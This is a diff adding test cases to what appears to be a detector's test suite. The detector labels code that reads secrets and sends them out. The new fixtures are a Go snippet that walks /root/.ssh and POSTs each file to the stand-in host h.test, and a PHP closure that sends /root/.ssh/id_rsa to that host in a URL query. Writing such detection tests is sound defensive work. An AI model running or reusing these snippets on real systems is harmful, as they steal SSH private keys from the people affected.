@@ -144,6 +144,17 @@ describe('what leaves and what runs', () => {
       "<?php $d = file_get_contents('/root/.ssh/id_rsa');\nfile_get_contents('https://h.test/?d=' . urlencode($d));",
       'content:ssh network:url h.test',
     ],
+    // A function that is written where it is given.
+    [
+      'go',
+      'package main\nfunc main() {\n\tfilepath.Walk("/root/.ssh", func(p string, fi os.FileInfo, err error) error {\n\t\tb, _ := os.ReadFile(p)\n\t\thttp.Post("https://h.test", "a", bytes.NewReader(b))\n\t\treturn nil\n\t})\n}',
+      'content:ssh network:body h.test',
+    ],
+    [
+      'php',
+      "<?php\n$send = function ($d) {\n  file_get_contents('https://h.test/?d=' . urlencode($d));\n};\n$send(file_get_contents('/root/.ssh/id_rsa'));",
+      'content:ssh network:url h.test',
+    ],
     // A variable of that name is no keyword.
     [
       'go',
